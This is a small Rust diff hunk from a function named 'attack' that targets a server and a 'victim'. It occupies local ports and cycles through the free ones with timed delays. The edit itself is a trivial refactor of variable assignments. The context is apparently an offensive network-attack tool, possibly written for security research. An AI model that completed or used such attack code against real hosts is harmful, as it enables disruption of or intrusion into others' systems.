@@ -82,7 +82,8 @@ pub fn attack(server: SocketAddr, victim: u32, tries: u32) -> Result<()> {
     let _taken: Vec<OwnedFd> = (free.end..=last)
         .filter_map(|port| bound(port).ok())
         .collect();
-    let (mut made, start) = (0, Instant::now());
+    let mut made = 0;
+    let start = Instant::now();
     for (left, delay) in free.clone().cycle().zip(DELAYS.into_iter().cycle()) {
         if made >= tries || start.elapsed() > LONGEST {
             break;
